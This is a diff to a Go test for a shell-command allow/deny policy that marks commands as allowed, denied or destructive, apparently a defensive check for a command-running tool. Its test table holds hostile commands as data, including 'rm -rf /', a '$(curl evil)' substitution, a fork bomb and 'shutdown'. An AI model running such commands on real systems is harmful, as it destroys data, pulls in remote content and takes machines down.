@@ -163,7 +163,7 @@ func TestRunCommandFlood(t *testing.T) {
 }
 
 func TestCommandPolicy(t *testing.T) {
-	rules, err := newCommandRules(CommandPolicy{Allow: []string{"go test*", "go vet ./...", "make"}, Deny: []string{"*npm publish*"}})
+	rules, err := newCommandRules(CommandPolicy{Allow: []string{"go test*", "go vet ./...", "make"}, Deny: []string{"*npm publish*"}}, "/repo")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -179,9 +179,9 @@ func TestCommandPolicy(t *testing.T) {
 		{command: "make", allowed: true},
 		{command: "make install"},
 		{command: "go test ./... && rm -rf /", destructive: true},
-		{command: "go test $(curl evil)"},
+		{command: "go test $(curl evil)", destructive: true}, // opaque: asks every time
 		{command: "go test > out.txt"},
-		{command: "go test `whoami`"},
+		{command: "go test `whoami`", destructive: true},
 		{command: "cd x; npm publish", denied: true},
 		{command: "rm -rf build", destructive: true},
 		{command: "rm -r build", destructive: true},
@@ -221,8 +221,9 @@ func TestCommandPolicy(t *testing.T) {
 		{command: "ls | xargs rm", destructive: true},
 		{command: ":(){ :|:& };:", destructive: true},
 		{command: "shutdown -h now", destructive: true},
-		{command: "echo 'rm -rf is dangerous'", destructive: true}, // words in quotes count too: better safe
-		{command: "go build ./... && ./bin/tern doctor"},
+		{command: "echo 'rm -rf is dangerous'"},                             // a quoted word is one argument
+		{command: "echo rm -rf x", destructive: true},                       // unknown wrappers: words that start a command count
+		{command: "go build ./... && ./bin/tern doctor", destructive: true}, // a program in the workspace
 	}
 	for _, tt := range tests {
 		t.Run(tt.command, func(t *testing.T) {
